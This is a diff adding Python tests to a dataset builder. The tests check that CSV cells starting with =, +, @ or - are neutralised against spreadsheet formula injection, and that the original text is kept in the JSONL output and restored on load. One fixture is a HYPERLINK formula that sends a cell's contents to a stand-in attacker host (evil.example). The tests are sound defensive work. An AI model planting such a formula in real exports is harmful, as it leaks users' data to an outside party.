@@ -457,3 +457,79 @@ def test_a_worker_killed_while_writing_the_tables_fails_the_build(tmp_path, corp
     error = finishes(lambda: build_dataset(corpus, out, use_cache=False, workers=2))
     assert isinstance(error, batch.WorkerDied)
     assert not out.exists()
+
+
+# -- CSV cells: formulas neutralised, the exact text kept in JSONL and read back ---------------------------------
+
+FORMULA_TITLE = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+
+
+def test_formulas_reach_the_csv_files_as_text_and_the_jsonl_exactly(tmp_path, corpus):
+    import csv
+    import json
+
+    (corpus / "@cmd.txt").write_text("-Hunan sent 90 nurses to Huanggang on February 11, 2020.", encoding="utf-8")
+    (corpus / "manifest.csv").write_text(f'file,published,source,url,title\na.txt,2020-02-12,+Xinhua,-1,'
+                                         f'"{FORMULA_TITLE.replace(chr(34), chr(34) * 2)}"\n', encoding="utf-8")
+    out = tmp_path / "out"
+    build_dataset(corpus, out, use_cache=False)
+    with open(out / "documents.csv", encoding="utf-8", newline="") as handle:
+        rows = {row["file"]: row for row in csv.DictReader(handle)}
+    assert rows["a.txt"]["title"] == "'" + FORMULA_TITLE and rows["a.txt"]["source"] == "'+Xinhua"
+    assert rows["a.txt"]["url"] == "-1"   # a number: a spreadsheet reads it as one, harmless
+    assert rows["'@cmd.txt"]["doc_id"] == "'@cmd"
+    for name in ("facts.csv", "gaps.csv", "documents.csv", "errors.csv", "pairings.csv", "conflicts.csv"):
+        with open(out / name, encoding="utf-8", newline="") as handle:
+            for row in csv.reader(handle):
+                assert not any(cell and (cell[0] in "=+@" or (cell[0] == "-" and not cell[1:2].isdigit()))
+                               for cell in row), (name, row)
+    facts = [json.loads(line) for line in (out / "facts.jsonl").read_text(encoding="utf-8").splitlines()]
+    assert {f["doc_id"] for f in facts} == {"@cmd", "a", "b"}
+    assert any(f["text"].startswith("-Hunan") or f["doc_id"] == "@cmd" for f in facts)
+    tables = load_dataset(out)
+    documents = tables["documents"].set_index("doc_id")
+    assert documents.loc["a", "title"] == FORMULA_TITLE and documents.loc["a", "source"] == "+Xinhua"
+    assert set(tables["facts"]["doc_id"]) == {"@cmd", "a", "b"}
+
+
+def test_extract_csv_output_is_neutralised(tmp_path):
+    evil = tmp_path / "=evil.txt"
+    evil.write_text(GOOD, encoding="utf-8")
+    result = run("extract", evil, "--format", "csv")
+    assert result.exit_code == 0, result.output
+    assert ",'=evil," in result.stdout and ",=evil," not in result.stdout
+
+
+@pytest.mark.parametrize("value, written", [
+    ("=1+1", "'=1+1"), ("+Xinhua", "'+Xinhua"), ("@SUM(A1)", "'@SUM(A1)"), ("-cmd", "'-cmd"), ("\tx", "'\tx"),
+    ("'=x", "''=x"), ("'x", "'x"), ("-5", "-5"), ("+86", "+86"), ("-1,200.5", "-1,200.5"), ("", ""), ("Hubei", "Hubei"),
+    (-5, -5), (None, None), (2.5, 2.5)])
+def test_neutral_cells(value, written):
+    import pandas as pd
+
+    from extract.dataset.spreadsheet import neutral, restore
+
+    assert neutral(value) == written
+    if isinstance(value, str):
+        assert restore(pd.Series([written, "plain"], dtype=object)).tolist() == [value, "plain"]
+
+
+def test_any_text_survives_a_round_trip_through_the_csv_files(tmp_path):
+    from hypothesis import given, settings
+    from hypothesis import strategies as st
+
+    from extract.dataset.build import read_table, write_table
+
+    risky = st.text(alphabet="='+-@\t\r ,\"x5", max_size=8)
+
+    @settings(max_examples=150, deadline=None)
+    @given(st.lists(st.one_of(risky, st.text(max_size=8)), min_size=1, max_size=5))
+    def round_trip(texts):
+        path = tmp_path / "t.csv"
+        texts = [t for t in texts if t and t.strip() == t and "\r" not in t]   # what a CSV cell can carry
+        if not texts:
+            return
+        write_table(path, [{"note": t} for t in texts], ["note"])
+        assert read_table(path)["note"].tolist() == texts
+
+    round_trip()
